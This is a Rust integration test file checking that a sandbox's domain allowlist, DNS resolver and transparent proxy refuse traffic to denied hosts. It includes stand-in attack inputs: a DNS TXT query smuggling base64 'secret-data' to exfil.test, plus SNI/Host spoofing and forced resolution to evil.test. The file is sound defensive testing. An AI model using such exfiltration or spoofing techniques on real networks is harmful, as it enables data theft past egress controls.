//! Domain rules end to end: real curl and raw sockets in a sandbox, the agent's resolver and
//! transparent proxy, a fake internet (`sandbox_tests::web`) that logs what reached it.
use std::{io::Read as _, net::TcpStream, time::Duration};

use sandbox_tests::{Run, web::WebWorld};

/// The policy most tests use: one exact name, one wildcard, one more exact name.
const POLICY: [&str; 8] = [
    "--network",
    "allowlist",
    "--allow-out",
    "allowed.test",
    "--allow-out",
    "*.wild.test",
    "--allow-out",
    "other.test",
];

fn curl(label: &str, ca: &std::path::Path, args: &str) -> String {
    format!("curl {label} --cacert {} {args}", ca.display())
}

fn assert_outcome(run: &Run, label: &str, expected_prefix: &str) {
    let out = run.outcome(label);
    assert!(
        out.starts_with(expected_prefix),
        "{label}: expected {expected_prefix:?}, got {out:?}\n{run:#?}"
    );
}

fn assert_flow(w: &WebWorld, what: &str, pred: impl Fn(&serde_json::Value) -> bool) {
    assert!(w.has_flow(pred), "no flow event {what}: {:#?}", w.flows());
}

/// A curl that failed, and did not merely time out (a refusal must be immediate).
fn assert_refused(run: &Run, label: &str) {
    let out = run.outcome(label);
    assert!(
        !out.starts_with("exit=0") && !out.starts_with("exit=28"),
        "{label}: expected an immediate refusal, got {out:?}\n{run:#?}"
    );
}

#[test]
fn allowed_names_over_https_and_http_ipv4_and_ipv6() {
    let w = WebWorld::new();
    let ca = w.ca();
    let run = w.run(
        &POLICY,
        &[
            &curl("exact", ca, "-4 https://allowed.test/"),
            &curl("wild", ca, "-4 https://a.wild.test/"),
            &curl("deep", ca, "-4 https://deep.b.wild.test/"),
            &curl("http", ca, "-4 http://allowed.test/"),
            &curl("v6", ca, "-6 https://allowed.test/"),
        ],
    );
    let (a3, a4) = (w.v4(3), w.v4(4));
    assert_outcome(
        &run,
        "exact",
        &format!("exit=0 hello from {a3} sni=allowed.test"),
    );
    assert_outcome(
        &run,
        "wild",
        &format!("exit=0 hello from {a4} sni=a.wild.test"),
    );
    assert_outcome(
        &run,
        "deep",
        &format!("exit=0 hello from {a4} sni=deep.b.wild.test"),
    );
    assert_outcome(
        &run,
        "http",
        &format!("exit=0 hello from {a3} host=allowed.test"),
    );
    assert_outcome(
        &run,
        "v6",
        &format!("exit=0 hello from {} sni=allowed.test", w.v6(3)),
    );
    assert!(w.saw(&format!("tls {a3} allowed.test")), "{:?}", w.seen());
    // Decisions are reported.
    assert_flow(&w, "allowing a.wild.test in the proxy", |f| {
        f["source"] == "proxy" && f["name"] == "a.wild.test" && f["verdict"] == "allowed"
    });
    assert_flow(&w, "of the resolver for allowed.test", |f| {
        f["source"] == "dns" && f["name"] == "allowed.test"
    });
}

#[test]
fn denied_names_are_refused_at_once_and_never_reached() {
    let w = WebWorld::new();
    let ca = w.ca();
    let (a4, a6) = (w.v4(4), w.v4(6));
    let run = w.run(
        &POLICY,
        &[
            &curl("by-name", ca, "https://evil.test/"),
            &curl(
                "forced",
                ca,
                &format!("--resolve evil.test:443:{a6} https://evil.test/"),
            ),
            &curl(
                "forced-http",
                ca,
                &format!("--resolve evil.test:80:{a6} http://evil.test/"),
            ),
            &curl(
                "bare",
                ca,
                &format!("--resolve wild.test:443:{a4} https://wild.test/"),
            ),
            &format!("dns bare-dns {a6} wild.test A"),
        ],
    );
    // The resolver refuses the name: curl cannot resolve it (6).
    assert_outcome(&run, "by-name", "exit=6");
    assert_refused(&run, "forced");
    assert_refused(&run, "forced-http");
    assert_refused(&run, "bare");
    assert_outcome(&run, "bare-dns", "REFUSED");
    assert!(
        !w.saw_addr(&a6),
        "the denied host was reached: {:?}",
        w.seen()
    );
    assert!(
        !w.saw(&format!("tls {a4} wild.test")),
        "the bare suffix was reached: {:?}",
        w.seen()
    );
    for name in ["evil.test", "wild.test"] {
        assert_flow(&w, &format!("denying {name}"), |f| {
            f["name"] == name && f["verdict"] == "denied"
        });
    }
}

#[test]
fn forged_sni_or_host_reaches_the_named_server_or_nothing() {
    let w = WebWorld::new();
    let ca = w.ca();
    let (a3, a6) = (w.v4(3), w.v4(6));
    let run = w.run(
        &POLICY,
        &[
            // The client aims at the evil address but names an allowed host.
            &curl(
                "sni-spoof",
                ca,
                &format!("--resolve allowed.test:443:{a6} https://allowed.test/"),
            ),
            &curl(
                "host-spoof",
                ca,
                &format!("-H Host:allowed.test http://{a6}/"),
            ),
            // A Host that is an address, no SNI, an Encrypted Client Hello: refused.
            &curl("host-ip", ca, &format!("http://{a6}/")),
            &format!("hello no-sni {a3} -"),
            &format!("hello ech {a3} allowed.test ech"),
        ],
    );
    assert_outcome(
        &run,
        "sni-spoof",
        &format!("exit=0 hello from {a3} sni=allowed.test"),
    );
    assert_outcome(
        &run,
        "host-spoof",
        &format!("exit=0 hello from {a3} host=allowed.test"),
    );
    assert_refused(&run, "host-ip");
    assert_outcome(&run, "no-sni", "reset");
    assert_outcome(&run, "ech", "reset");
    assert!(
        !w.saw_addr(&a6),
        "the spoofed address was reached: {:?}",
        w.seen()
    );
    assert!(
        !w.saw(&format!("tls {a3} -")),
        "a hello without SNI got through: {:?}",
        w.seen()
    );
}

#[test]
fn dns_goes_to_the_agent_whatever_the_server_and_answers_only_allowed_names() {
    let w = WebWorld::new();
    let (a3, a5, a6) = (w.v4(3), w.v4(5), w.v4(6));
    let run = w.run(
        &POLICY,
        &[
            // To the rogue resolver (the sandbox's resolv.conf names it), another address, and
            // over IPv6 and TCP: all answered by the agent, as if by the server asked.
            &format!("dns rogue {a6} allowed.test A"),
            &format!("dns elsewhere {a5} allowed.test A"),
            &format!("dnstcp tcp {a6} allowed.test AAAA"),
            &format!("dns v6 {} allowed.test A", w.v6(6)),
            "resolve system allowed.test",
            &format!("dns denied {a6} evil.test A"),
            &format!("dns exfil {a6} c2VjcmV0LWRhdGE.exfil.test TXT"),
            &format!("dnstcp exfil-tcp {a6} c2VjcmV0LWRhdGE.exfil.test TXT"),
            &format!("dns txt {a6} txt.allowed.test TXT"),
            &format!("dns https {a6} allowed.test HTTPS"),
            // A socket marked by a DNS redirect receives the answer, and nothing from a peer
            // the policy denies (.5 sends to this port all along).
            &format!("udpmark marked {} {a6}", w.spam_port()),
        ],
    );
    assert_outcome(&run, "rogue", &format!("NOERROR {a3}"));
    assert_outcome(&run, "elsewhere", &format!("NOERROR {a3}"));
    assert_outcome(&run, "tcp", &format!("NOERROR {}", w.v6(3)));
    assert_outcome(&run, "v6", &format!("NOERROR {a3}"));
    assert_outcome(&run, "system", "ok ");
    assert!(run.outcome("system").contains(&a3), "{run:#?}");
    assert_outcome(&run, "denied", "REFUSED");
    assert_outcome(&run, "exfil", "REFUSED");
    assert_outcome(&run, "exfil-tcp", "REFUSED");
    // TXT of an allowed name is just DNS: no data leaves that the policy did not allow.
    assert_outcome(&run, "txt", "REFUSED");
    // The upstream's HTTPS record carries alpn (key 1) and ech (key 5): ech is removed.
    assert_outcome(&run, "https", "NOERROR https:key=1");
    assert!(!run.outcome("https").contains("key=5"), "{run:#?}");
    assert_outcome(&run, "marked", "answers=1 others=0");
    assert!(
        !w.saw("dns "),
        "a DNS packet reached the rogue resolver: {:?}",
        w.seen()
    );
    let asked = w.upstream_queries();
    assert!(
        asked.iter().any(|q| q.contains("allowed.test")),
        "{asked:?}"
    );
    assert!(
        !asked
            .iter()
            .any(|q| q.contains("evil") || q.contains("exfil")),
        "a denied name went upstream: {asked:?}"
    );
}

#[test]
fn learned_addresses_open_other_tcp_ports_only_after_resolution() {
    let w = WebWorld::new();
    let (a3, a5) = (w.v4(3), w.v4(5));
    let run = w.run(
        &[
            "--network",
            "allowlist",
            "--allow-out",
            "allowed.test",
            "--allow-out",
            "*.wild.test",
        ],
        &[
            &format!("tcp before {a3} 2222"),
            "resolve resolve allowed.test",
            &format!("tcp after {a3} 2222"),
            &format!("tcp after-v6 {} 2222", w.v6(3)),
            &format!("tcp unlearned {a5} 2222"),
            // QUIC is not let through to a learned address: clients fall back to TCP.
            &format!("udp quic {a3} 443"),
            // A name under an allowed wildcard that points at a private address.
            "resolve internal internal.wild.test",
        ],
    );
    assert_outcome(&run, "before", "EPERM");
    assert_outcome(&run, "after", &format!("ok hello from {a3} port 2222"));
    assert_outcome(
        &run,
        "after-v6",
        &format!("ok hello from {} port 2222", w.v6(3)),
    );
    assert_outcome(&run, "unlearned", "EPERM");
    assert_outcome(&run, "quic", "EPERM");
    assert!(!w.saw(&format!("udp {a3} 443")), "{:?}", w.seen());
    assert!(!w.saw_addr(&a5), "{:?}", w.seen());
    assert_flow(
        &w,
        "refusing to learn internal.wild.test's private address",
        |f| {
            f["name"] == "internal.wild.test"
                && f["resolved"].as_array().is_some_and(|r| {
                    r.iter()
                        .any(|a| a.as_str().is_some_and(|a| a.contains("not learned")))
                })
        },
    );
}

#[test]
fn open_mode_refuses_only_denied_names() {
    let w = WebWorld::new();
    let ca = w.ca();
    let run = w.run(
        &["--network", "open", "--deny-out", "evil.test"],
        &[
            &curl("good", ca, "-4 https://allowed.test/"),
            // QUIC would skip the name check: refused with domain rules, even in open mode.
            &format!("udp quic {} 443", w.v4(6)),
            &curl(
                "evil",
                ca,
                &format!("--resolve evil.test:443:{} https://evil.test/", w.v4(6)),
            ),
        ],
    );
    assert_outcome(&run, "good", &format!("exit=0 hello from {}", w.v4(3)));
    assert_refused(&run, "evil");
    assert_outcome(&run, "quic", "EPERM");
    assert!(!w.saw_addr(&w.v4(6)), "{:?}", w.seen());
}

/// The proxy serves only connections the kernel redirected or its own sandbox made: a host
/// process that connects to its port directly gets nothing (no open relay).
#[test]
fn the_proxy_is_no_open_relay() {
    let w = WebWorld::new();
    // The workload tells its proxy's port (from --proxy-env) through a file in its own /tmp,
    // which the host reads through the shell's /proc/PID/root, then waits.
    let marker = format!("proxy-port-{}", w.net);
    let mut policy = POLICY.to_vec();
    policy.push("--proxy-env");
    let script = format!("echo \"$HTTP_PROXY\" > /tmp/port; sleep 4; echo {marker}");
    let args = w.run_args(&policy, &["/bin/sh", "-c", &script]);
    let agent = std::thread::scope(|scope| {
        let handle = scope.spawn(|| w.agent(&args));
        let start = std::time::Instant::now();
        let port: u16 = loop {
            let pid = sandbox_tests::sh(&format!("pgrep -f -n 'echo {marker}$' || true"));
            let text = std::fs::read_to_string(format!("/proc/{}/root/tmp/port", pid.trim()))
                .unwrap_or_default();
            if let Some(p) = text.trim().strip_prefix("http://127.0.0.1:") {
                break p.parse().expect("port");
            }
            assert!(
                start.elapsed() < Duration::from_secs(4),
                "no proxy port: {text:?}"
            );
            std::thread::sleep(Duration::from_millis(20));
        };
        let mut conn = TcpStream::connect(("127.0.0.1", port)).expect("connect to the proxy");
        conn.set_read_timeout(Some(Duration::from_secs(3)))
            .expect("timeout");
        let _ = std::io::Write::write_all(
            &mut conn,
            b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n",
        );
        let mut buf = [0u8; 64];
        let read = conn.read(&mut buf);
        assert!(
            matches!(read, Ok(0))
                || read
                    .as_ref()
                    .is_err_and(|e| e.kind() == std::io::ErrorKind::ConnectionReset),
            "the proxy served a host process: {read:?} {:?}",
            String::from_utf8_lossy(&buf)
        );
        handle.join().expect("agent thread")
    });
    assert_eq!(agent.code, 0, "{agent:#?}");
    assert!(!w.saw("tls "), "{:?}", w.seen());
    assert_flow(&w, "refusing the host's connection", |f| {
        f["reason"].as_str().is_some_and(|r| r.contains("redirect"))
    });
}

/// `--proxy-env`: HTTP CONNECT, plain HTTP forwarding and SOCKS5 through the sandbox's own
/// explicit proxy, with the policy's rules; and the kernel wall for clients that ignore it.
#[test]
fn explicit_proxies_apply_the_same_rules() {
    let w = WebWorld::new();
    let ca = w.ca();
    let mut policy = POLICY.to_vec();
    policy.push("--proxy-env");
    let cad = ca.display().to_string();
    let run = w.run(
        &policy,
        &[
            &format!("requests py https://allowed.test/ {cad}"),
            &format!("requests py-denied https://evil.test/ {cad}"),
            &curl("http-forward", ca, "-4 http://allowed.test/"),
            &curl("socks", ca, "-4 --proxy $ALL_PROXY https://a.wild.test/"),
            &curl("socks-denied", ca, "--proxy $ALL_PROXY https://evil.test/"),
            &curl(
                "socks-ip",
                ca,
                &format!("--proxy $ALL_PROXY http://{}/", w.v4(6)),
            ),
            &curl(
                "connect-denied",
                ca,
                "--proxy $HTTPS_PROXY https://evil.test/",
            ),
            // A client that ignores the variables meets the kernel and the transparent proxy.
            &curl(
                "no-proxy",
                ca,
                &format!(
                    "-4 --noproxy * --resolve evil.test:443:{} https://evil.test/",
                    w.v4(6)
                ),
            ),
        ],
    );
    assert_outcome(&run, "py", "status=200 hello from ");
    assert!(run.outcome("py").contains("sni=allowed.test"), "{run:#?}");
    assert!(
        !run.outcome("py-denied").starts_with("status=200"),
        "{run:#?}"
    );
    assert_outcome(
        &run,
        "http-forward",
        &format!("exit=0 hello from {} host=allowed.test", w.v4(3)),
    );
    assert_outcome(
        &run,
        "socks",
        &format!("exit=0 hello from {} sni=a.wild.test", w.v4(4)),
    );
    assert_refused(&run, "socks-denied");
    assert_refused(&run, "socks-ip");
    assert_refused(&run, "connect-denied");
    assert_refused(&run, "no-proxy");
    assert!(!w.saw_addr(&w.v4(6)), "{:?}", w.seen());
    assert_flow(&w, "denying evil.test", |f| {
        f["name"] == "evil.test" && f["verdict"] == "denied"
    });
}

/// `--upstream-proxy`: the agent's own connections go through the operator's proxy, by name
/// (http, socks5h) or by the address the agent resolved (socks5).
#[test]
fn the_agents_egress_chains_through_an_upstream_proxy() {
    let w = WebWorld::new();
    let ca = w.ca();
    for (scheme, expect) in [
        ("http", "proxy http allowed.test:443"),
        ("socks5h", "proxy socks allowed.test:443"),
        ("socks5", &*format!("proxy socks {}:443", w.v4(3))),
    ] {
        let url = format!("{scheme}://{}", w.upstream_proxy());
        let mut policy = POLICY.to_vec();
        policy.extend(["--upstream-proxy", &url]);
        let run = w.run(
            &policy,
            &[
                &curl("chained", ca, "-4 https://allowed.test/"),
                &curl(
                    "denied",
                    ca,
                    &format!("--resolve evil.test:443:{} https://evil.test/", w.v4(6)),
                ),
            ],
        );
        assert_outcome(
            &run,
            "chained",
            &format!("exit=0 hello from {} sni=allowed.test", w.v4(3)),
        );
        assert_refused(&run, "denied");
        assert!(
            w.saw(expect),
            "{scheme}: the upstream proxy saw {:?}",
            w.seen()
        );
    }
    assert!(
        !w.saw("proxy http evil") && !w.saw("proxy socks evil"),
        "{:?}",
        w.seen()
    );
    assert!(!w.saw_addr(&w.v4(6)), "{:?}", w.seen());
}
